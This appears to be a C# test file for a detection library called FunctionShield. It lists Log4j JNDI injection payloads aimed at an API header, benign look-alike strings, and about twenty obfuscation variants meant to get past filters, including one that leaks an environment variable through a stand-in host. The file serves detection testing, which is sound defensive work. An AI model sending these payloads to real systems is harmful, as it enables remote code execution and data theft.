using FunctionShield.Tests.Detection.Evasion;

namespace FunctionShield.Tests.Detection;

public class JndiLookupEvasionTests(ITestOutputHelper output) : EvasionCheck(output)
{
    private const string Log4j = "Log4j 2.0 to 2.14";

    private protected override EvasionSuite Suite => Attacks;

    internal static EvasionSuite Attacks => new()
    {
        ClassName = "jndi-injection",
        Place = "header.x-api-version",
        Attacks =
        [
            "${jndi:ldap://h.example/a}", "${jndi:rmi://h.example:1099/a}", "${jndi:dns://h.example}", "x ${jndi:ldaps://h.example/a} y", "${jndi:ldap://${env:USER}.h.example/a}",
            "${jndi:iiop://h.example/a}", "${jndi:corba://h.example/a}", "${jndi:nis://h.example/a}",
        ],
        Twins =
        [
            "${name}", "${env:STAGE}", "${self:custom.table}-${opt:stage}", "${PATH:-/usr/bin}", "java:comp/env and jndi are names", "$jndi is {not} a lookup: ldap",
            "ldaps or ldap: which?", "{jndi:ldap}",
        ],
        Own =
        [
            EvasionFamily.Replace("upper case", Log4j, "jndi", "JNDI"),
            EvasionFamily.Replace("alternating case", Log4j, "jndi", "jNdI"),
            EvasionFamily.Replace("lower", Log4j, "jndi", "${lower:j}ndi") with { IsAlone = true },
            EvasionFamily.Replace("lower, every letter", Log4j, "jndi", "${lower:j}${lower:n}${lower:d}${lower:i}") with { IsAlone = true },
            EvasionFamily.Replace("upper", Log4j, "jndi", "j${upper:n}di") with { IsAlone = true },
            EvasionFamily.Replace("default value", Log4j, "jndi", "${::-j}ndi"),
            EvasionFamily.Replace("default value, every letter", Log4j, "jndi", "${::-j}${::-n}${::-d}${::-i}"),
            EvasionFamily.Replace("default value of an environment variable", Log4j, "jndi", "${env:NONE:-j}ndi"),
            EvasionFamily.Replace("default value of a system property", Log4j, "jndi", "${sys:none:-jndi}"),
            EvasionFamily.Replace("default value of a map", Log4j, "jndi", "${main:x:-jndi}") with { IsAlone = true },
            EvasionFamily.Replace("default value without a lookup", Log4j, "jndi", "${:-jndi}"),
            EvasionFamily.Replace("nested twice", Log4j, "jndi", "${lower:${lower:jndi}}") with { IsAlone = true },
            EvasionFamily.Replace("nested default values", Log4j, "jndi", "${x:y:-${z:-j}}ndi"),
            EvasionFamily.Replace("spelled lookup", Log4j, "jndi", "${${::-l}ower:j}ndi"),
            EvasionFamily.Replace("date", Log4j, "jndi", "${date:'j'}${date:'n'}${date:'d'}${date:'i'}"),
            EvasionFamily.Replace("dotless i", Log4j, "jndi", "jnd${upper:\u0131}") with { IsAlone = true },
            EvasionFamily.Replace("colon by default value", Log4j, "jndi:", "jndi${::-:}"),
            EvasionFamily.Replace("scheme by lookups", Log4j, "ldap:", "${lower:l}${lower:d}ap:") with { IsAlone = true },
            EvasionFamily.Replace("scheme by default values", Log4j, "ldap:", "${::-l}${::-d}${::-a}${::-p}:"),
            EvasionFamily.Replace("slashes by default values", Log4j, "ldap://", "ldap:${::-/}/"),
            EvasionFamily.Replace("local host before a fragment", Log4j + ", past the allow-list of 2.15", "h.example", "127.0.0.1#h.example") with { IsAlone = true },
            EvasionFamily.Replace("no host", Log4j, "ldap://h.example", "ldap:/") with { IsAlone = true },
            EvasionFamily.Of("inside another lookup", Log4j, a => a.StartsWith("${jndi", StringComparison.Ordinal) ? "${lower:" + a + "}" : a),
        ],
    };
}
